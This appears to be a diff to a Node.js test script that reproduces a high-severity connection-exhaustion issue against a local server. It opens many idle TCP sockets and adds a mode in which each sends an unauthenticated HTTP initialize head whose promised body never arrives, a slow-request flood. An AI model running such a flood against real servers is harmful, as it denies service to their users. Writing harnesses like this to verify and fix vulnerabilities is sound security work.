@@ -1,10 +1,16 @@
 // The attack of issue 31 (High), run in a process of its own so that its sockets and its event loop are not the
 // server's: `node idle-flood.mjs <port> <count>` opens `count` TCP connections to 127.0.0.1:<port> that send
 // nothing, and reopens each as soon as it closes. Once every socket has connected it prints `ready`, then every
-// 500 ms a line `{"open":…,"connects":…}` (sockets connected now, connections made so far).
+// 500 ms a line `{"open":…,"connects":…}` (sockets connected now, connections made so far). With a third
+// argument `head`, each socket sends a complete initialize head whose body never comes instead of nothing: no
+// credentials are needed for it (found by review).
 import { connect } from 'node:net';
 
-const [port, count] = process.argv.slice(2).map(Number);
+const [port, count] = process.argv.slice(2, 4).map(Number);
+const head =
+  process.argv[4] === 'head'
+    ? 'POST /sdk/api/1.0/initialize/s?systemId=x HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n['
+    : undefined;
 let open = 0;
 let connects = 0;
 let ready = false;
@@ -14,6 +20,7 @@ function dial() {
   let connected = false;
   socket.on('connect', () => {
     connected = true;
+    if (head !== undefined) socket.write(head);
     open += 1;
     connects += 1;
     if (!ready && connects >= count) {
